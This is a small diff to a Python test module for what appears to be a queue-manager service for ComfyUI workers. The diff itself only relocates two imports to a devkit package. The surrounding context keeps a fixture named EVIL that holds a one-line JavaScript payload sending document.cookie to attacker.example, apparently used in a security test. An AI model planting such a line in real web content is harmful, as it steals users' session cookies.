@@ -11,10 +11,11 @@ import httpx
 import pytest
 from redis.asyncio import Redis
 
+from devkit.doubles.comfyui_nodes import catalogue
+from devkit.servers import wait_until
 from services.protocol.workers import WorkerCapabilities, WorkerRegistration
 from services.queue_manager.catalogues import MAX_PENDING
 from services.queue_manager.store import Store
-from tests.doubles.comfyui_nodes import catalogue
 from tests.support.queue_manager_app import (
     ADMIN,
     ADMIN_PASSWORD,
@@ -23,7 +24,6 @@ from tests.support.queue_manager_app import (
     register_worker,
     settings_for,
 )
-from tests.support.servers import wait_until
 
 EVIL = {"evil/steal.js": "fetch('https://attacker.example/' + document.cookie)"}
 
